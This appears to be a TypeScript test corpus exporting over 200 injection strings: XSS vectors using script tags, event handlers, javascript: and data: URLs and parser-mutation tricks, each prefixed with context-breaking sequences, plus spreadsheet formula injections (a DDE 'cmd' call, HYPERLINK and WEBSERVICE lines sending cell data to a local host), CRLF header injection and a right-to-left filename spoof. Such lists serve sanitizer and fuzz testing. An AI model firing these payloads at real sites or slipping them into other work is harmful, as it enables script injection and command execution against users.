/** Markup that runs a script in a browser without a policy; each one calls `alert(1)`. */
const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src="data:text/javascript,alert(1)"></sCrIpT>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:alert(1))}">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<base href="javascript:alert(1)//">',
  '<p onpointerover=alert(1) onclick=alert(1)>x</p>',
];

/** Texts before a vector that close the attribute or element around it. */
const exits = [
  '',
  '">',
  "'>",
  '</script>',
  '--></style></title></textarea>',
  '\\u003c/script\\u003e${alert(1)}',
];

/** Texts that a spreadsheet would run as formulas. */
const formulas = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
  '"=1+1"',
  'x;=1+1',
  "'=1+1",
];

/** Texts that start a new line in a header, calendar or text file, or reverse the direction of a file name. */
const lineEnds = [
  'x\r\nSet-Cookie: injected=1',
  'x\nBEGIN:VALARM\nACTION:AUDIO',
  'x\u2028ATTENDEE:mailto:a@example.com',
  'katalog\u202Efdp.exe',
  'x";filename="a.html',
  'x\\',
];

/** More than 200 texts; each tries to run code in a different place of a page, a file or a mail. */
export const payloads: readonly string[] = [
  ...exits.flatMap((exit) => vectors.map((vector) => exit + vector)),
  ...formulas,
  ...lineEnds,
];
